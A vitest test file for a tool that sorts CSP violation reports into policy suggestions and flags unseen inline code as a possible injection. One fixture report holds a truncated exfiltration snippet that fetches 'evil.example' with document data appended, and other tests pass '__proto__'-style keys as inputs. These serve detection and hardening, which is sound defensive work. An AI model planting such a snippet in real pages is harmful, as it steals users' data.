import { describe, expect, it } from 'vitest';
import type { CrawlArtifact } from '../csp/artifact';
import { generatePolicy } from '../csp/generate';
import { crawlKnowledge } from './knowledge';
import { type ReportGroupEvidence, suggestFromReports } from './suggestions';

// A fixture crawl: the home page loads a CDN script and a font, and runs an inline script and a handler.
const ORIGIN = 'https://www.example.com';
const artifact: CrawlArtifact = {
  origin: ORIGIN,
  errors: [],
  pages: [
    {
      url: `${ORIGIN}/`,
      finalUrl: `${ORIGIN}/`,
      status: 200,
      observations: [
        {
          type: 'url',
          directive: 'script-src-elem',
          url: 'https://cdn.example.net/lib.js',
          page: `${ORIGIN}/`,
        },
        { type: 'url', directive: 'font-src', url: 'https://fonts.gstatic.com/a.woff2', page: `${ORIGIN}/` },
        {
          type: 'inline',
          directive: 'script-src-elem',
          hash: 'sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
          sample: 'window.dataLayer = window.dataLayer || [',
          kind: 'element',
          page: `${ORIGIN}/`,
        },
      ],
    },
    { url: `${ORIGIN}/about`, finalUrl: `${ORIGIN}/about`, status: 200, observations: [] },
  ],
};
const rules = generatePolicy(artifact, { mode: 'allowlist' }).rules;
const basis = { rules, siteOrigin: ORIGIN, knowledge: crawlKnowledge('a1', artifact) };

const group = (
  g: Partial<ReportGroupEvidence> & Pick<ReportGroupEvidence, 'directive' | 'source'>,
): ReportGroupEvidence => ({
  count: 3,
  firstSeen: '2026-11-24T09:00:00.000Z',
  lastSeen: '2026-11-24T10:00:00.000Z',
  reports: [{ documentUri: `${ORIGIN}/` }],
  ...g,
});

describe('suggestFromReports', () => {
  it('classifies each group against the latest crawl, with the reason', () => {
    const out = suggestFromReports(
      [
        // The crawl saw this CDN: the deployed policy is older than ours.
        group({ directive: 'script-src-elem', source: 'https://cdn.example.net' }),
        // The site's own subdomain, on a page the crawl did not reach.
        group({
          directive: 'img-src',
          source: 'https://static.example.com',
          reports: [{ documentUri: `${ORIGIN}/account` }],
        }),
        // Never seen anywhere.
        group({ directive: 'connect-src', source: 'https://collect.tracker.example', count: 9 }),
        // Inline code the crawl saw on that page.
        group({
          directive: 'script-src-elem',
          source: 'inline',
          reports: [{ documentUri: `${ORIGIN}/`, scriptSample: 'window.dataLayer = window.dataLayer || [' }],
        }),
        // Inline code nobody saw: an injection, maybe.
        group({
          directive: 'script-src-elem',
          source: 'inline',
          reports: [
            { documentUri: `${ORIGIN}/about`, scriptSample: 'fetch("https://evil.example/?c="+docum' },
          ],
        }),
        // data: and about: are never suggested.
        group({ directive: 'img-src', source: 'data:' }),
        group({ directive: 'frame-src', source: 'about:' }),
      ],
      basis,
    );
    const by = (source: string, sample?: string) =>
      out.find((s) => s.blocked === source && (sample === undefined || s.reason.includes(sample)));
    expect(out).toHaveLength(5);
    expect(by('https://cdn.example.net')).toMatchObject({
      class: 'expected',
      directive: 'script-src',
      acceptable: true,
    });
    expect(by('https://static.example.com')).toMatchObject({
      class: 'new-first-party',
      directive: 'img-src',
      pages: [`${ORIGIN}/account`],
      acceptable: true,
    });
    expect(by('https://collect.tracker.example')).toMatchObject({ class: 'new-third-party', count: 9 });
    expect(by('inline', 'window.dataLayer')).toMatchObject({
      class: 'expected',
      source: "'sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='",
      acceptable: true,
    });
    const injected = by('inline', 'evil.example');
    expect(injected).toMatchObject({
      class: 'suspicious-inline',
      source: "'unsafe-inline'",
      acceptable: false,
    });
    expect(injected!.reason).toContain('may be injected');
    // Suspicious first, then third parties: what needs a person comes first.
    expect(out[0]!.class).toBe('suspicious-inline');
  });

  it('never offers inline code without a sample, or without a crawl to compare with, for one-click accept', () => {
    const noSample = suggestFromReports(
      [group({ directive: 'script-src-attr', source: 'inline', reports: [{ documentUri: `${ORIGIN}/` }] })],
      basis,
    );
    expect(noSample[0]).toMatchObject({ class: 'suspicious-inline', acceptable: false });
    expect(noSample[0]!.reason).toContain("'report-sample'");
    const noCrawl = suggestFromReports(
      [
        group({
          directive: 'script-src-elem',
          source: 'inline',
          reports: [{ documentUri: `${ORIGIN}/`, scriptSample: 'x()' }],
        }),
        group({ directive: 'script-src-elem', source: 'https://cdn.example.net' }),
      ],
      { rules: {}, siteOrigin: ORIGIN, knowledge: null },
    );
    expect(noCrawl.find((s) => s.blocked === 'inline')).toMatchObject({
      class: 'suspicious-inline',
      acceptable: false,
    });
    expect(noCrawl.find((s) => s.blocked !== 'inline')).toMatchObject({ class: 'new-third-party' });
  });

  it('treats eval the crawl saw as expected and unseen eval as suspicious', () => {
    const withEval: CrawlArtifact = {
      ...artifact,
      pages: [
        {
          ...artifact.pages[0]!,
          observations: [{ type: 'eval', sample: 'return this', page: `${ORIGIN}/` }],
        },
      ],
    };
    const b = { rules, siteOrigin: ORIGIN, knowledge: crawlKnowledge('a2', withEval) };
    const [seen] = suggestFromReports(
      [
        group({
          directive: 'script-src',
          source: 'eval',
          reports: [{ documentUri: `${ORIGIN}/`, scriptSample: 'return this' }],
        }),
      ],
      b,
    );
    expect(seen).toMatchObject({ class: 'expected', source: "'unsafe-eval'" });
    const [unseen] = suggestFromReports(
      [
        group({
          directive: 'script-src',
          source: 'eval',
          reports: [{ documentUri: `${ORIGIN}/`, scriptSample: 'atob("ZXZpbA==")' }],
        }),
      ],
      b,
    );
    expect(unseen).toMatchObject({ class: 'suspicious-inline', acceptable: false });
  });
});

describe('report text that names an Object.prototype member', () => {
  it('is a directive and a source like any other: no crash, nothing expected, no prototype touched', () => {
    const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty'];
    const groups = names.flatMap((name) => [
      group({ directive: name, source: 'blob:' }),
      group({ directive: 'img-src', source: name }),
      group({ directive: name, source: 'https://cdn.example.net' }),
    ]);
    const out = suggestFromReports(groups, basis);
    expect(out.filter((s) => s.blocked === 'blob:' && s.class === 'expected')).toEqual([]);
    expect(out.length).toBeGreaterThan(0);
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
    expect({}.constructor).toBe(Object);
  });
});
